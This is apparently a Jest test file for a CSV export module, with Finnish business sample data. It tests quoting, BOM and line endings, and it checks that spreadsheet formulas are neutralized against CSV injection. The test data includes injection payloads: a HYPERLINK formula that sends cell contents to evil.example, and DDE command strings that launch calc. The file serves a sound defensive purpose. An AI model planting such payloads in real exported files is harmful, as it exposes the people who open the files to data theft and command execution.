import { csvField, listToCsv, toCsv, looksLikeFormula, type CsvOptions } from '../../../src/core/export/csv';
import { listFromGrid } from '../../../src/core/list/listTable';

const SAFE: CsvOptions = { delimiter: ';', bom: true, eol: '\r\n', neutralizeFormulas: true };

describe('toCsv: RFC 4180 quoting', () => {
  it('quotes only fields holding the delimiter, quotes or line breaks, and doubles quotes', () => {
    const csv = toCsv(
      ['Yritys', 'Katuosoite', 'Lisätieto'],
      [
        ['Rakennus Virtanen Oy', 'Hämeenkatu 5; B 12', 'Sanoi "soita syksyllä"'],
        ['Kahvila Kulma', 'Aleksanterinkatu 3', 'rivi 1\nrivi 2'],
      ],
      { ...SAFE, bom: false },
    );
    expect(csv).toBe(
      'Yritys;Katuosoite;Lisätieto\r\n' +
        'Rakennus Virtanen Oy;"Hämeenkatu 5; B 12";"Sanoi ""soita syksyllä"""\r\n' +
        'Kahvila Kulma;Aleksanterinkatu 3;"rivi 1\nrivi 2"\r\n',
    );
  });

  it('a comma is data in a semicolon file and a delimiter in a comma file', () => {
    expect(csvField('Oy Esimerkki, Tampere', SAFE)).toBe('Oy Esimerkki, Tampere');
    expect(csvField('Oy Esimerkki, Tampere', { ...SAFE, delimiter: ',' })).toBe('"Oy Esimerkki, Tampere"');
    expect(csvField('a\tb', { ...SAFE, delimiter: '\t' })).toBe('"a\tb"');
  });

  it('starts with a UTF-8 BOM when asked, so that Excel reads ä and ö right', () => {
    const withBom = toCsv(['Yritys'], [['Sähkö-Äijälä Oy']], SAFE);
    expect(withBom.charCodeAt(0)).toBe(0xfeff);
    expect(toCsv(['Yritys'], [], { ...SAFE, bom: false }).charCodeAt(0)).toBe('Y'.charCodeAt(0));
  });

  it('uses the chosen line ending for every record', () => {
    const csv = toCsv(['A'], [['1'], ['2']], { ...SAFE, bom: false, eol: '\n' });
    expect(csv).toBe('A\n1\n2\n');
  });

  it('writes numbers as numbers (never neutralized), with a decimal comma when asked', () => {
    expect(csvField(-12.5, SAFE)).toBe('-12.5');
    expect(csvField(0.93, { ...SAFE, decimalComma: true })).toBe('0,93');
    expect(csvField(null, SAFE)).toBe('');
  });
});

describe('toCsv: formula neutralization (OWASP CSV injection)', () => {
  const attacks = [
    '=HYPERLINK("http://evil.example/?"&A1;"Klikkaa")',
    "=cmd|' /C calc'!A0",
    '+358-ei-numero',
    '-2+3+cmd|\' /C calc\'!A0',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '\t=1+1',
    '\r=1+1',
  ];

  it.each(attacks)('prefixes %j with a quote and encloses it in double quotes', (value) => {
    const field = csvField(value, SAFE);
    expect(field.startsWith('"\'')).toBe(true);
    // Unquoted, the cell text a spreadsheet sees starts with the apostrophe, not the trigger.
    const cell = field.slice(1, -1).replace(/""/g, '"');
    expect(cell).toBe(`'${value}`);
    expect(looksLikeFormula(cell)).toBe(false);
  });

  it('keeps E.164 numbers in phone columns as they are, but not elsewhere', () => {
    const opts = { ...SAFE, phoneColumns: new Set([0]) };
    const csv = toCsv(['Puhelin', 'Yritys'], [['+358401234567', '+358401234567']], opts);
    expect(csv.split('\r\n')[1]).toBe('+358401234567;"\'+358401234567"');
  });

  it('neutralizes a phone column value that is not a clean E.164 number', () => {
    const opts = { ...SAFE, phoneColumns: new Set([0]) };
    expect(csvField('+358 40 123', opts, true)).toBe('"\'+358 40 123"');
    expect(csvField('=1+1', opts, true)).toBe('"\'=1+1"');
  });

  it('leaves data alone when neutralization is off (for tools that re-read their own files)', () => {
    expect(csvField('=A1', { ...SAFE, neutralizeFormulas: false })).toBe('=A1');
  });

  it('neutralizes headers too', () => {
    expect(toCsv(['=Yritys'], [], SAFE)).toBe('\uFEFF"\'=Yritys"\r\n');
  });
});

describe('listToCsv', () => {
  it('writes the headers as the user sees them and exempts the catalogue phone column', () => {
    const list = listFromGrid('lista.csv', ['Puhelin', 'Yritys', 'Asiakasnumero'], [['+358501234567', '@Firma Oy', '000123']]);
    const csv = listToCsv(list, { delimiter: ',', bom: false, eol: '\r\n', neutralizeFormulas: true });
    expect(csv).toBe('Puhelin,Yritys,Asiakasnumero\r\n+358501234567,"\'@Firma Oy",000123\r\n');
  });
});
